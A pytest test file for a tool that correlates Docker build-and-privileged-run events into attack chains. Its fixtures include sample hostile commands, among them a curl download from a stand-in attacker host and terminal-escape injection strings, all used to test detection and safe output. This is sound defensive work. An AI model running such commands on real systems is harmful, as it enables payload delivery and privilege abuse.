"""``t1612 correlate`` shows chains, on any terminal, and accounts for every event."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pandas
import pytest
from attrs import evolve

from t1612core import AllowList, Detector, EventError, SettingsError, correlate
from t1612core.cli import correlate as command
from t1612core.cli.main import main
from t1612core.correlation import Correlator
from t1612core.incident import Incident, Term, final
from t1612core.output import timeline
from t1612core.output.table import columns, plain

from .beside import shared
from .conftest import ROOT

ATTACK = ROOT / "examples" / "attack.jsonl"
Result = tuple[int, str, str]
Run = Callable[..., Result]


def event(second: int, line: str, **fields: object) -> dict[str, Any]:
    return {
        "FileName": line.split()[0],
        "ProcessCommandLine": line,
        "DeviceName": "web-1",
        "Timestamp": f"2026-03-02T10:00:{second:02}Z",
        **fields,
    }


CHAIN = (event(1, "docker build -t app /tmp/x"), event(9, "docker run --privileged app"))


@pytest.fixture
def run(capfd: pytest.CaptureFixture[str], tmp_path: Path) -> Run:
    """Correlate the events in a file; give the exit code, output and errors."""

    def correlate(*args: str, events: tuple[Any, ...] = ()) -> Result:
        path = tmp_path / "events.jsonl"
        path.write_text("".join(json.dumps(each) + "\n" for each in events), "utf-8")
        code = main(["correlate", str(path), *args])
        out, err = capfd.readouterr()
        return code, out, err

    return correlate


def incidents(*events: dict[str, Any]) -> list[Incident]:
    detector, correlator = Detector(), Correlator()
    told = [
        incident
        for each in events
        for step in detector.observe(each)
        for incident in correlator.feed(step)
    ]
    return [*told, *correlator.flush()]


def test_a_chain_is_shown_with_what_happened_its_steps_places_gaps_and_links(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    code, out, err = run(events=CHAIN)

    assert 1 == code
    assert [
        "chain: build-then-deploy  score 6  severity high, confidence high  web-1",
        "    On web-1, somebody built app, 8 s later somebody started app.",
        "    2026-03-02 10:00:01Z  build     3  docker build -t app /tmp/x",
        f"        {tmp_path}/events.jsonl:1",
        "    2026-03-02 10:00:09Z  deploy    1  docker run --privileged app",
        f"        {tmp_path}/events.jsonl:2",
        "        └ 8.0 s after step 1, by image app",
    ] == out.splitlines()[:7]
    assert err.endswith("2 events = 2 read + 0 rejected; 2 steps, 1 incident; read as mde (2)\n")


def test_a_step_that_is_done_again_says_how_often(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    _, out, _ = run(events=(*(event(n, "docker build -t app /tmp/x") for n in (1, 3, 5)), CHAIN[1]))

    assert 1 == out.count("docker build -t app /tmp/x")
    assert "        and 2 times more" in out.splitlines()


def test_a_place_leads_to_the_explanation_of_its_event(
    run: Run, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    _, out, _ = run("--format", "jsonl", events=CHAIN[::-1])
    (incident,) = map(json.loads, out.splitlines())
    places = [each for step in incident["steps"] for each in step["sources"]]
    assert [2, 1] == [place["line"] for place in places]
    for place, event in zip(places, CHAIN, strict=True):
        assert 0 == main(["explain", "--line", str(place["line"]), place["file"]])
        assert str(event["ProcessCommandLine"]) in capfd.readouterr().out


def test_an_alert_says_that_it_is_no_chain(run: Run) -> None:
    code, out, err = run(events=CHAIN[:1])

    assert 1 == code
    assert out.startswith("alert: build  score 3  severity low, confidence ")
    assert err.endswith("1 step, 1 incident, 1 of one step; read as mde (1)\n")
    ((incident,),) = (correlate(CHAIN[:1]),)
    assert "alert" == incident.kind == timeline.to_mapping(incident)["kind"]
    assert ["chain"] == [each.kind for each in correlate(CHAIN)]


@pytest.mark.parametrize(
    ("narrative", "expected"),
    [
        ("one two", ["    one two"]),
        ("a" * 57, ["    " + "a" * 56, "    a"]),
        ("word " * 40, [*["    " + "word " * 10 + "word"] * 3, "    " + "word " * 6 + "word"]),
        ("word " * 400, [*["    " + "word " * 10 + "word"] * 5, "    " + "word " * 11 + "…"]),
    ],
)
def test_what_happened_is_wrapped_and_its_rest_is_cut(narrative: str, expected: list[str]) -> None:
    (incident,) = correlate(CHAIN[:1])
    told = evolve(incident, narrative=narrative.rstrip())
    lines = plain(timeline.lay_out(told, 60)).splitlines()

    assert expected == lines[1 : 1 + len(expected)]
    assert lines[1 + len(expected)].startswith("    2026")


@pytest.mark.no_cover  # repeats at length what others run
def test_the_order_of_the_input_does_not_matter(run: Run) -> None:
    one, other = (
        [line for line in out_of(run(events=events)).splitlines() if "events.jsonl:" not in line]
        for events in (CHAIN, CHAIN[::-1])
    )

    assert one == other


def day(hour: int, line: str, host: str = "web-1") -> dict[str, Any]:
    return event(0, line, DeviceName=host, Timestamp=f"2026-03-02T{hour:02}:30:00Z")


# Chains of a day, each hours from the next, on two hosts.
DAY = [
    one
    for hour in range(2, 20, 3)
    for host in ("web-1", "web-2")
    for one in (
        day(hour, f"docker build -t app{hour} /tmp/x{hour}", host),
        day(hour + 1, f"docker run --privileged app{hour}", host),
    )
]


def unplaced(line: str) -> Any:
    """Give an incident without where its events were read, which their order decides."""
    incident = json.loads(line)
    for step in incident["steps"]:
        assert [] != step["sources"]
        step["sources"] = []
    return incident


ATTACK_LINES = ATTACK.read_text("utf-8").splitlines()


@pytest.mark.parametrize("order", ["newest first", *range(5)])
def test_a_day_in_any_order_gives_the_same_chains(run: Run, order: str | int) -> None:
    expected = correlate(DAY)
    assert 12 == len(expected)
    assert {"build-then-deploy"} == {one.verdict for one in expected}
    events = DAY[::-1]
    if order != "newest first":
        random.Random(order).shuffle(events)
    code, out, err = run("--format", "jsonl", events=tuple(events))

    assert expected == correlate(events)
    assert [timeline.to_mapping(one) for one in expected] == list(map(unplaced, out.splitlines()))
    assert (1, False) == (code, "lost" in err)


@pytest.mark.parametrize("seed", range(20))
def test_the_attack_in_any_order_gives_the_same_incident(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], seed: int
) -> None:
    """Its lines in twenty random orders, by the verb and by the command."""
    lines = ATTACK_LINES.copy()
    random.Random(seed).shuffle(lines)
    path = tmp_path / "attack.jsonl"
    path.write_text("\n".join(lines), "utf-8")
    (expected,) = correlate(map(json.loads, ATTACK_LINES))

    assert 4 == len(expected.steps)
    assert [expected] == correlate(map(json.loads, lines))
    assert 1 == main(["correlate", "--format", "jsonl", str(path)])
    (told,) = capfd.readouterr().out.splitlines()
    assert json.loads(json.dumps(timeline.to_mapping(expected))) == unplaced(told)


@pytest.mark.parametrize("most", [1, 3, 8])
def test_what_comes_too_late_to_be_sorted_is_counted(
    run: Run, monkeypatch: pytest.MonkeyPatch, most: int
) -> None:
    """In order it is sorted by however few; out of order what is late ends with 3."""
    monkeypatch.setattr(command, "MOST", most)
    in_order = sorted(DAY, key=lambda one: str(one["Timestamp"]))
    code, out, err = run("--format", "jsonl", "--window", "1", events=tuple(in_order))
    assert (1, 12, False) == (code, len(out.splitlines()), "lost" in err)
    code, _, err = run("--window", "1", events=tuple(in_order[::-1]))
    assert 3 == code
    assert "lost: late" in err


STAMPS = [
    ("noon of 3/2", "Timestamp is text like aaaa aa 9/9"),
    ("password=Jürgen\u202e" * 9, f"Timestamp is text like {'a' * 40}…"),
    (1772445663, "Timestamp is int of 10 digits"),
    (1 << 70, "Timestamp is int"),
    (True, "Timestamp is bool"),
    (1.5, "Timestamp is float"),
    (["2026"], "Timestamp is list"),
    (None, "no TimeGenerated or Timestamp"),
]


@pytest.mark.parametrize(("stamp", "form"), STAMPS)
def test_a_chain_without_a_time_that_can_be_read_says_what_it_saw(
    run: Run, stamp: Any, form: str
) -> None:
    """Its form and never its content; the exit code is no 0."""
    code, out, err = run(events=tuple({**each, "Timestamp": stamp} for each in CHAIN))

    assert (3, "") == (code, out)
    assert f"; 2 lost: no_time; no time in ISO 8601: {form} (2); read as mde (2)\n" in err


@pytest.mark.parametrize("stamp", [None, "3/4/2026 02:11"])
def test_a_step_that_no_chain_can_have_is_told(stamp: str | None) -> None:
    told: list[str] = []
    events = [*CHAIN, event(20, "docker run --privileged app", Timestamp=stamp)]
    (incident,) = correlate(events, on_error=lambda error: told.append(str(error)))

    assert 2 == len(incident.steps)
    assert ["event: field 'time' is missing or cannot be read"] == told
    assert [incident] == correlate(events)


def test_few_forms_of_stamps_are_shown(run: Run) -> None:
    stamps = [f"{'9' * n} x" for n in range(1, 9)]
    _, _, err = run(events=tuple({**CHAIN[0], "Timestamp": stamp} for stamp in stamps))

    assert err.endswith(
        "8 lost: no_time; no time in ISO 8601: Timestamp is text like 9 a (1), "
        "Timestamp is text like 99 a (1), Timestamp is text like 999 a (1); "
        "read as mde (8)\n"
    )


def test_an_event_that_is_not_scored_has_no_stamp() -> None:
    assert "" == Detector().stamp_of({**CHAIN[0], "ActionType": "LogonSuccess", "FileName": ""})


def test_a_data_frame_without_a_time_loses_the_step() -> None:
    rows = [*CHAIN, {**CHAIN[0], "Timestamp": pandas.NaT}]

    assert correlate(CHAIN) == correlate(rows)


def test_everyday_events_make_no_incident(run: Run) -> None:
    code, out, err = run(events=(event(1, "docker build -t app ."), event(2, "docker run app")))

    assert (0, "") == (code, out)
    assert "2 steps, 0 incidents" in err


def test_json_lines_hold_all_of_an_incident(run: Run) -> None:
    _, out, _ = run("--format", "jsonl", events=CHAIN)
    (incident,) = map(json.loads, out.splitlines())
    (made,) = incidents(*CHAIN)[-1:]

    assert timeline.to_mapping(made) == unplaced(out)
    assert ("build-then-deploy", 8.0) == (incident["verdict"], incident["joins"][0]["gap"])
    assert {"T1612", "T1610"} <= {each["id"] for each in incident["attack"]}


def test_a_window_bounds_what_links_join(run: Run) -> None:
    later = event(9, "docker run --privileged app", Timestamp="2026-03-02T12:30:00Z")

    assert out_of(run("--window", "2", events=(CHAIN[0], later))).startswith("alert: build  ")
    assert out_of(run("--window", "3", events=(CHAIN[0], later))).startswith(
        "chain: build-then-deploy  "
    )


def out_of(result: Result) -> str:
    return result[1]


@pytest.mark.parametrize("hours", ["0", "-1", "x", "nan", "9000"])
def test_a_wrong_window_is_refused(run: Run, hours: str) -> None:
    with pytest.raises(SystemExit, match="2"):
        run("--window", hours)


def test_what_is_lost_is_said(run: Run) -> None:
    timeless = event(1, "docker build -t app /tmp/x", Timestamp="")
    code, _, err = run(events=(timeless, {"FileName": 7, "ProcessCommandLine": "x"}))

    assert 3 == code
    assert "2 events = 1 read + 1 rejected" in err
    assert "1 lost: no_time" in err


def test_an_interrupted_run_says_so(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupt(*_args: object) -> object:
        raise KeyboardInterrupt

    monkeypatch.setattr(command.Correlating, "incidents", interrupt)
    code, _, err = run(events=CHAIN)

    assert 130 == code
    assert "interrupted" in err


@pytest.mark.parametrize("width", [60, 80, 200])
def test_no_line_is_wider_and_nothing_in_it_acts(width: int) -> None:
    hostile = "docker build -t app /tmp/\x1b[2J\u202e" + "x" * 500
    for incident in incidents(event(1, hostile), event(2, "docker run app")):
        lines = plain(timeline.lay_out(incident, width)).splitlines()

        assert max(map(columns, lines)) <= width
        assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize(
    ("second", "gap"), [("10:00:31", "30.0 s"), ("10:05:01", "5.0 min"), ("10:59:01", "59.0 min")]
)
def test_gaps_are_read_easily(second: str, gap: str) -> None:
    later = event(0, "docker run app", Timestamp=f"2026-03-02T{second}Z")
    lines = plain(timeline.lay_out(incidents(CHAIN[0], later)[-1], 100))

    assert f"└ {gap} after step 1" in lines


def test_the_example_is_a_whole_chain(capfd: pytest.CaptureFixture[str]) -> None:
    assert 1 == main(["correlate", str(ATTACK)])
    out, _ = capfd.readouterr()

    assert ["prepare", "build", "egress", "deploy"] == [
        line.split()[2] for line in out.splitlines() if line.startswith("    2026")
    ]
    assert "near in time" in out


ENTRY = """version = 1
[[entry]]
id = "ci-app"
reason = "The image of the team's own pipeline"
owner = "ci@example.com"
created = 2026-01-10
expires = 2026-12-31
kinds = ["process"]
match = [
  { field = "host", op = "equals", value = "web-1" },
  { field = "command_line", op = "glob", value = "docker build -t app *" },
]
"""
SUPPRESSES = ENTRY + 'effect = { action = "suppress" }\n'
SUBTRACTS = ENTRY + 'effect = { action = "subtract", points = 1 }\n'


@pytest.fixture
def suppressing(tmp_path: Path) -> str:
    path = tmp_path / "list.toml"
    path.write_text(SUPPRESSES, "utf-8")
    return str(path)


def test_a_suppressed_build_alone_makes_no_incident_and_is_counted(
    run: Run, suppressing: str
) -> None:
    code, out, err = run("--allowlist", suppressing, events=CHAIN)

    assert (0, "") == (code, out)
    assert "2 steps, 0 incidents; 1 step suppressed" in err


def test_a_suppressed_step_is_shown_in_the_chain_of_another(run: Run, suppressing: str) -> None:
    alert = event(4, "docker build --build-context b=docker-image://app -t other /tmp/x")
    code, out, _ = run("--allowlist", suppressing, events=(CHAIN[0], alert, CHAIN[1]))

    assert 1 == code
    assert [
        "    2026-03-02 10:00:01Z  build     0  docker build -t app /tmp/x",
        "        suppressed by ci-app",
    ] == out.splitlines()[2:5:2]
    _, out, _ = run(
        "--allowlist", suppressing, "--format", "jsonl", events=(CHAIN[0], alert, CHAIN[1])
    )
    assert ["ci-app", None, None] == [
        step["suppressed_by"] for step in json.loads(out.splitlines()[-1])["steps"]
    ]


def test_who_follows_a_file_is_told_what_is_suppressed(
    suppressing: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    events = tmp_path / "events.jsonl"
    events.write_text("".join(json.dumps(each) + "\n" for each in CHAIN), "utf-8")
    places = {name: str(tmp_path / name) for name in ("state", "output")}
    options = [part for name, path in places.items() for part in (f"--{name}", path)]

    for _ in range(2):  # the second goes on from the first
        assert 0 == main(
            ["correlate", "--follow", "--once", *options, "--allowlist", suppressing, str(events)]
        )
        assert "2 steps; 1 step suppressed; 0 incidents told 0 times" in capfd.readouterr().err


def test_an_entry_of_a_day_that_has_passed_suppresses_nothing(run: Run, suppressing: str) -> None:
    code, _, err = run("--allowlist", suppressing, "--today", "2027-01-01", events=CHAIN)

    assert 1 == code
    assert "suppressed" not in err


def test_a_chain_scores_what_an_entry_leaves() -> None:
    plain, tuned = (
        correlate(CHAIN, detector=Detector(allowlist=allowlist))
        for allowlist in (None, AllowList.loads(SUBTRACTS))
    )

    assert [(6, 3)] == [(one.score, one.steps[0].score) for one in plain]
    assert [(5, 2)] == [(one.score, one.steps[0].score) for one in tuned]


def test_the_verb_gives_the_last_state_of_each_incident() -> None:
    told = incidents(*CHAIN)

    assert 2 == len(told)
    assert told[-1:] == correlate(CHAIN) == correlate(iter(CHAIN[::-1]))
    assert told[-1:] == correlate([{"records": list(CHAIN)}])
    assert [] == correlate(())


def test_the_verb_is_told_what_to_do_with_errors() -> None:
    wrong = {"FileName": 7, "ProcessCommandLine": "x"}
    errors: list[EventError] = []

    with pytest.raises(EventError):
        correlate([wrong, *CHAIN])
    assert 1 == len(correlate([wrong, *CHAIN], on_error=errors.append))
    assert ["name"] == [error.field for error in errors]
    with pytest.raises(SettingsError):
        correlate(CHAIN, window=timedelta())


# What the labels do not see: everyday steps of a test are everyday steps (d04); a remote engine's
# image was started, too (d09).
OTHERWISE = {"d04": set[str](), "d09": {"build-then-deploy"}}


def test_scenarios_of_the_corpus() -> None:
    """Each scenario gives the chain that its label says, or what is explained above."""
    found: dict[str, set[str]] = {}
    expected = {}
    for scenario in json.loads(shared("corpus/scenarios.json").read_text("utf-8")):
        expected[scenario["id"]] = {scenario["chain_expected"]} - {None}
        found[scenario["id"]] = set()
    rows = [
        json.loads(line) for line in shared("corpus/events.jsonl").read_text("utf-8").splitlines()
    ]
    detector = Detector()
    for id in found:
        correlator = Correlator()
        told: list[Incident] = []
        mine = [row for row in rows if row["scenario"] == id]
        for row in sorted(mine, key=lambda row: row["Timestamp"] or ""):
            for step in detector.observe(row, kind=row["table"]):
                told += correlator.feed(step)
        found[id] = {each.verdict for each in final([*told, *correlator.flush()])}

    assert {**expected, **OTHERWISE} == found


def test_lines_that_can_be_no_step_are_skipped_and_counted(run: Run) -> None:
    other = event(5, f"ls {'x' * 900}")
    shell = event(6, "bash -c date")
    many = tuple([other] * 1200)
    code, out, err = run("--wide", events=(CHAIN[0], *many, shell, CHAIN[1]))

    assert 1 == code
    assert ["1", "1203"] == re.findall(r"events\.jsonl:(\d+)$", out, re.MULTILINE)
    assert "2 steps, 1 incident" in err
    assert "lines without anything that may be a step" in err


def test_rows_that_can_be_no_step_are_skipped_and_counted(
    capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    pa = pytest.importorskip("pyarrow", reason="pip install numpy pyarrow")
    parquet = pytest.importorskip("pyarrow.parquet", reason="pip install numpy pyarrow")
    fetch = event(3, "curl -o /tmp/x http://evil.example/x")
    rows = [CHAIN[0], *[event(5, "ls")] * 600, fetch, CHAIN[1]]
    parquet.write_table(pa.Table.from_pylist(rows), tmp_path / "rows.parquet")
    code = main(["correlate", str(tmp_path / "rows.parquet")])
    err = capfd.readouterr().err

    assert 1 == code
    assert "258 events = 258 read + 0 rejected; 3 steps" in err
    assert "345 lines without anything that may be a step" in err


def test_the_sum_and_the_certainty_are_said_whatever_there_is_of_them() -> None:
    (told,) = incidents(CHAIN[0])
    bare = evolve(
        told,
        terms=(*told.terms, Term(1, "the least there is", None)),
        confidence_reasons=("a",),
        doubts=("a",),
    )

    assert "3 = 3 the build (step 1)" == timeline.sum_text(told)
    assert "3 = 3 the build (step 1), +1 the least there is" == timeline.sum_text(bare)
    assert f"confidence {told.confidence}; lowered, since a" == timeline.sure_text(bare)
    sure = evolve(bare, doubts=())
    assert f"confidence {told.confidence}; raised, since a" == timeline.sure_text(sure)
